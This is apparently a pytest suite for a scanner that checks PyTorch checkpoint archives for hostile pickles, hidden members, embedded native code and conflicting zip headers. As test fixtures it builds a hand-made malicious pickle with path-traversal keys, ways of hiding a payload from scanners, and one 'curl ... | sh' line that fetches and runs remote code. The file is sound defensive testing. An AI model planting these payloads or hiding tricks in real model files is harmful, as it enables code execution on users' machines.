"""Torch zip archives: what is proven, what is left to look into, what is found in it."""

from __future__ import annotations

import struct
from collections import OrderedDict
from pathlib import Path
from typing import Any

import pytest
import torch
from hypothesis import given, settings
from hypothesis import strategies as st
from torch import nn

from sentinel.artifacts import Artifact
from sentinel.errors import SentinelError
from sentinel.findings import Report, Severity, Verdict
from sentinel.formats.torch import TorchArchive, looks_like_torch, parse
from sentinel.limits import Budget
from sentinel.readers import MemoryReader
from tests.formats.archive.kit import Entry, build, raw_deflate
from tests.formats.torch_kit import (
    PAYLOAD,
    ids,
    members,
    parsed,
    rewritten,
    saved,
    scan,
    scripted,
)

STATE = OrderedDict(weight=torch.arange(12.0).reshape(3, 4), bias=torch.zeros(3))
CHECKPOINT = saved(STATE)
KINDS = [
    torch.float64, torch.float32, torch.float16, torch.bfloat16, torch.int64, torch.int32,
    torch.int16, torch.int8, torch.uint8, torch.bool, torch.complex64, torch.complex128,
    torch.float8_e4m3fn, torch.float8_e5m2, torch.uint16, torch.uint32, torch.uint64,
]  # fmt: skip


def model_of(data: bytes) -> TorchArchive:
    model = parsed(parse, data, "model.pt").model
    assert isinstance(model, TorchArchive)
    return model


@pytest.mark.parametrize("kind", KINDS, ids=str)
def test_storages_of_every_dtype_are_proven(kind: torch.dtype) -> None:
    data = saved({"a": torch.zeros(7).to(kind), "empty": torch.zeros(0).to(kind)})
    model = model_of(data)
    assert {found.name for found in model.proven} == {"archive/data/0", "archive/data/1"}
    assert model.proven[0].size == torch.zeros(7).to(kind).untyped_storage().nbytes()
    assert not model.unproven
    assert not model.missing


@pytest.mark.filterwarnings("ignore::UserWarning", "ignore::DeprecationWarning")
def test_quantised_sparse_and_shared_storages_are_proven() -> None:
    base = torch.arange(10.0)
    data = saved(
        {
            "q": torch.quantize_per_tensor(torch.ones(4), 0.1, 0, torch.qint8),
            "sparse": torch.eye(3).to_sparse(),
            "views": [base[2:5], base.view(2, 5), base],
            "storage": torch.ones(3).untyped_storage(),
        }
    )
    model = model_of(data)
    assert model.proven
    assert not model.unproven


def test_proven_storages_are_not_read_and_all_else_is_claimed_or_left() -> None:
    reader = MemoryReader(saved({"big": torch.zeros(1_000_000)}))
    found = parse(Artifact("model.pt", reader), Budget())
    assert reader.stats.bytes_read < 100_000
    names = {member.name for member in found.members}
    assert names == {"archive/data.pkl"}
    assert len(found.claims) == 2


@pytest.mark.parametrize(
    "value",
    [STATE, nn.Sequential(nn.Linear(3, 2), nn.LSTM(2, 2)), {"step": 3, "lr": 0.1}],
    ids=["state", "module", "plain"],
)
def test_ordinary_checkpoints_are_clean(value: Any) -> None:
    report = scan(saved(value))
    assert report.verdict is Verdict.CLEAN
    assert not ids(report, Severity.LOW)


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_an_optimizer_and_a_scheduler_are_clean() -> None:
    layer = nn.Linear(3, 2)
    optimizer = torch.optim.AdamW(layer.parameters())
    layer(torch.ones(1, 3)).sum().backward()
    optimizer.step()
    scheduler = torch.optim.lr_scheduler.StepLR(optimizer, 2)
    report = scan(saved({"optimizer": optimizer.state_dict(), "scheduler": scheduler.state_dict()}))
    assert report.verdict is Verdict.CLEAN


class TestUnproven:
    """Whatever is not proven to be tensor data is looked into, and said."""

    @staticmethod
    def reasons(data: bytes) -> dict[str, str]:
        return {found.name: found.reason for found in model_of(data).unproven}

    def test_a_member_nobody_asks_for_is_read(self) -> None:
        data = rewritten(CHECKPOINT, {"data/99": PAYLOAD})
        assert self.reasons(data) == {"archive/data/99": "unreferenced"}
        report = scan(data)
        assert "SNT1150" in ids(report, Severity.LOW)
        assert "SNT1101" in ids(report)

    def test_a_member_of_another_size_is_read(self) -> None:
        data = rewritten(CHECKPOINT, {"data/1": PAYLOAD})
        assert self.reasons(data) == {"archive/data/1": "size"}
        report = scan(data)
        assert {"SNT1150", "SNT1101"} <= ids(report)

    def test_a_compressed_member_is_read(self) -> None:
        data = rewritten(CHECKPOINT, deflate=lambda name: name.startswith("data/"))
        assert set(self.reasons(data).values()) == {"compressed"}
        report = scan(data)
        assert "SNT1157" in ids(report, Severity.INFO)
        assert report.verdict is Verdict.CLEAN

    def test_a_missing_storage_is_said(self) -> None:
        report = scan(rewritten(CHECKPOINT, {"data/1": None}))
        assert "SNT1151" in ids(report, Severity.LOW)
        assert "SNT1151" not in ids(scan(CHECKPOINT), Severity.LOW)

    def test_the_untouched_archive_has_none(self) -> None:
        assert self.reasons(rewritten(CHECKPOINT)) == {}

    @pytest.mark.parametrize("key", ["../evil.pkl", "evil.pkl", "x/y", "code.py", ""])
    def test_a_key_cannot_exempt_a_member_of_another_use(self, key: str) -> None:
        # A pickle that calls another member a storage of exactly its size.
        name = b"torch\nFloatStorage\n"
        count = struct.pack("<i", len(PAYLOAD) // 4)
        text = key.encode()
        evil = (
            b"\x80\x02(X\x07\x00\x00\x00storagec" + name + b"X" + struct.pack("<I", len(text))
            + text + b"X\x03\x00\x00\x00cpuJ" + count + b"tQ."
        )  # fmt: skip
        payload = PAYLOAD[:-1] + b" " * (-len(PAYLOAD) % 4) + b"."
        for place in (f"data/{key}", f"constants/{key}", f".data/{key}.storage"):
            data = rewritten(CHECKPOINT, {"data.pkl": evil, place: payload})
            assert not [found for found in model_of(data).proven if found.name.endswith(key)]


class TestHidingPlaces:
    """Pickles that PyTorch would run, whatever they are called and however they are packed."""

    def test_the_pickle_itself(self) -> None:
        assert "SNT1101" in ids(scan(rewritten(CHECKPOINT, {"data.pkl": PAYLOAD})))

    def test_upper_case_name(self) -> None:
        data = rewritten(CHECKPOINT, {"data.pkl": PAYLOAD}, rename={"data.pkl": "DATA.PKL"})
        assert {"SNT1101", "SNT1153"} <= ids(scan(data))
        assert "SNT1153" not in ids(scan(CHECKPOINT), Severity.INFO)

    def test_deflated(self) -> None:
        data = rewritten(CHECKPOINT, {"data.pkl": PAYLOAD}, deflate=lambda name: True)
        assert "SNT1101" in ids(scan(data))

    @pytest.mark.filterwarnings("ignore:Duplicate name")
    @pytest.mark.parametrize("evil_first", [True, False])
    def test_either_of_two(self, evil_first: bool) -> None:
        import io
        import zipfile

        good = members(CHECKPOINT)["data.pkl"]
        order = [PAYLOAD, good] if evil_first else [good, PAYLOAD]
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            for content in order:
                archive.writestr("archive/data.pkl", content)
            archive.writestr("archive/version", b"3\n")
        assert "SNT1101" in ids(scan(buffer.getvalue()))

    def test_in_either_of_two_archives(self) -> None:
        evil = rewritten(CHECKPOINT, {"data.pkl": PAYLOAD})
        for data in (evil + CHECKPOINT, CHECKPOINT + evil):
            assert "SNT1101" in ids(scan(data))

    def test_in_any_pickle_of_a_scripted_archive(self) -> None:
        data = scripted(nn.Linear(2, 2))
        names = {name for name in members(data) if name.endswith("pkl")}
        assert {"data.pkl", "constants.pkl"} <= names
        for name in names:
            assert "SNT1101" in ids(scan(rewritten(data, {name: PAYLOAD}))), name

    def test_in_an_extra_file(self) -> None:
        data = rewritten(CHECKPOINT, {"extra/notes.txt": PAYLOAD})
        assert "SNT1101" in ids(scan(data))


def test_truncated_archives_are_never_clean() -> None:
    for cut in (10, 100, len(CHECKPOINT) // 2, len(CHECKPOINT) - 30):
        assert scan(CHECKPOINT[:cut]).verdict is not Verdict.CLEAN


def test_recognises_archives_by_their_records_only() -> None:
    def asked(data: bytes) -> bool:
        return looks_like_torch(Artifact("x", MemoryReader(data)), data[:4096])

    assert asked(CHECKPOINT)
    assert asked(scripted(nn.ReLU()))
    assert asked(rewritten(CHECKPOINT, {"a": b"x" * 10_000}, rename={"data.pkl": "DATA.pkl"}))
    assert not asked(rewritten(CHECKPOINT, dict.fromkeys(members(CHECKPOINT)) | {"a.txt": b"text"}))


@pytest.mark.parametrize(
    ("head", "kind"),
    [
        (b"\x7fELF\2\1\1" + bytes(9) + b"\3\0\x3e\0" + bytes(60), "ELF"),
        (b"\x7fELF\2\1\1" + bytes(9) + b"\2\0\xbe\0" + bytes(60), "GPU"),
        (b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(20), "PE"),
        (b"\xcf\xfa\xed\xfe\7\0\0\1\3\0\0\0\6\0\0\0\x10\0\0\0" + bytes(20), "Mach-O"),
    ],
)
@pytest.mark.parametrize("deflated", [False, True])
def test_native_code_is_told_by_content(head: bytes, kind: str, deflated: bool) -> None:
    name = "data/aotinductor/model/model.wrapper.bin"
    data = rewritten(CHECKPOINT, {name: head}, deflate=lambda one: deflated and one == name)
    assert [found.kind for found in model_of(data).native] == [kind]
    report = scan(data, "model.pt2")
    found = [one for one in report.findings if one.rule_id == "SNT1152"]
    assert [one.severity for one in found] == [Severity.MEDIUM if kind == "GPU" else Severity.HIGH]


@pytest.mark.parametrize("head", [b"MZ" + bytes(100), b"\x7fELF nothing", b"\xca\xfe\xba\xbe" * 8])
def test_bytes_that_merely_begin_alike_are_not_native_code(head: bytes) -> None:
    data = rewritten(CHECKPOINT, {"data/weights/weight_0": head})
    assert not model_of(data).native


class OpensFile(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x + torch.from_file("sentinel-marker", False, 3)


@pytest.mark.filterwarnings("ignore::UserWarning", "ignore::DeprecationWarning")
def test_mobile_byte_code_is_judged_by_its_operators(tmp_path: Path) -> None:
    def mobile(module: nn.Module) -> bytes:
        path = tmp_path / "model.ptl"
        torch.jit.script(module)._save_for_lite_interpreter(str(path))
        return path.read_bytes()

    hostile = mobile(OpensFile())
    assert ("aten::from_file", "model/bytecode.pkl") in model_of(hostile).operators
    without_code = rewritten(hostile, {"code/__torch__.py": None})
    assert "SNT1155" in ids(scan(without_code, "model.ptl"))
    ordinary = mobile(nn.Sequential(nn.Conv2d(1, 2, 3), nn.ReLU()))
    assert model_of(ordinary).operators
    assert "SNT1155" not in ids(scan(ordinary, "model.ptl"), Severity.INFO)


def test_weights_only_is_a_remark() -> None:
    plain = scan(CHECKPOINT)
    assert "SNT1154" not in ids(plain, Severity.INFO)
    report = scan(saved(nn.Linear(2, 2)))
    found = [one for one in report.findings if one.rule_id == "SNT1154"]
    assert [one.severity for one in found] == [Severity.INFO]
    assert "torch.nn.modules.linear.Linear" in found[0].evidence


def test_the_remark_agrees_with_torch() -> None:
    import io
    import pickle

    values = [
        STATE, {"n": [1, 2.5, None, True, "x"]}, {"s": {1, 2}}, torch.Size([2]), nn.Parameter(
            torch.ones(2)), {"d": torch.float16, "v": torch.device("cpu")}, nn.Linear(2, 2),
        {"c": complex(1, 2)}, bytearray(b"x"), torch.eye(2).to_sparse(), slice(1, 2),
    ]  # fmt: skip
    for value in values:
        data = saved(value)
        try:
            torch.load(io.BytesIO(data), weights_only=True)
            accepted = True
        except pickle.UnpicklingError:
            accepted = False
        said = "SNT1154" in ids(scan(data), Severity.INFO)
        assert said is not accepted, value


SCRIPTED = scripted(nn.Linear(2, 2))


@settings(max_examples=150, deadline=None)
@given(st.sampled_from([CHECKPOINT, SCRIPTED]), st.data())
def test_hostile_bytes_give_errors_of_ours_only(original: bytes, data: st.DataObject) -> None:
    broken = bytearray(original)
    for _ in range(data.draw(st.integers(1, 8))):
        at = data.draw(st.integers(0, len(broken) - 1))
        broken[at] = data.draw(st.integers(0, 255))
    try:
        found = parsed(parse, bytes(broken), "model.pt")
        for member in found.members:
            member.open()
    except SentinelError:
        pass


def _entries(storage: Entry, pickle: bytes | None = None) -> list[Entry]:
    """Return a checkpoint of one tensor as members that may lie."""
    parts = members(saved({"w": torch.zeros(16)}))
    return [Entry("archive/data.pkl", pickle or parts["data.pkl"]), storage]


class TestDisagreements:
    """Two readings of one header: a proof about one says nothing about the other."""

    HIDDEN = PAYLOAD.ljust(64, b"\0")

    def test_the_plain_one_is_proven(self) -> None:
        data = build(*_entries(Entry("archive/data/0", bytes(64))))
        assert [found.name for found in model_of(data).proven] == ["archive/data/0"]
        assert scan(data).verdict is Verdict.CLEAN

    @pytest.mark.parametrize(
        "change",
        [
            {"local": {"method": 8}, "data": raw_deflate(PAYLOAD).ljust(64, b"\0")},
            {"local": {"size": 999, "compressed": 999}},
            {"local": {"name": b"archive/other.pkl"}},
            {"flags": 1},
            {"local": {"flags": 1}},
        ],
        ids=str,
    )
    def test_what_only_one_reading_shows_is_looked_at(self, change: dict[str, Any]) -> None:
        entry = Entry("archive/data/0", **{"data": self.HIDDEN, **change})
        report = scan(build(*_entries(entry)))
        assert report.verdict is not Verdict.CLEAN
        assert ids(report, Severity.HIGH)

    @pytest.mark.parametrize("name", ["archive/data/0/", "archive/x.pkl", "archive/readme.txt"])
    @pytest.mark.parametrize("first", [True, False])
    def test_two_entries_for_one_header(self, name: str, first: bool) -> None:
        storage = Entry("archive/data/0", self.HIDDEN)
        base = build(*_entries(storage))
        offset = base.index(b"archive/data/0") - 30
        other = Entry(name, self.HIDDEN, present=False, central={"offset": offset})
        entries = _entries(storage)
        entries.insert(1 if first else 2, other)
        assert "SNT1101" in ids(scan(build(*entries)))


def test_the_code_of_a_server_beside_a_checkpoint_is_python() -> None:
    inner = saved({"weight": torch.zeros(2)})

    def report(source: bytes) -> Report:
        members = [Entry("model.pth", inner), Entry("code/inference.py", source)]
        return scan(build(*members), "model.zip")

    plain = report(b"import torch\ndef model_fn(d):\n    return torch.load(d + '/model.pth')\n")
    assert plain.verdict is Verdict.CLEAN
    acts = report(b"import os\nos.system('curl http://x.invalid | sh')\n")
    assert acts.verdict is Verdict.MALICIOUS
    assert not any(found.rule_id.startswith("SNT141") for found in acts.findings)
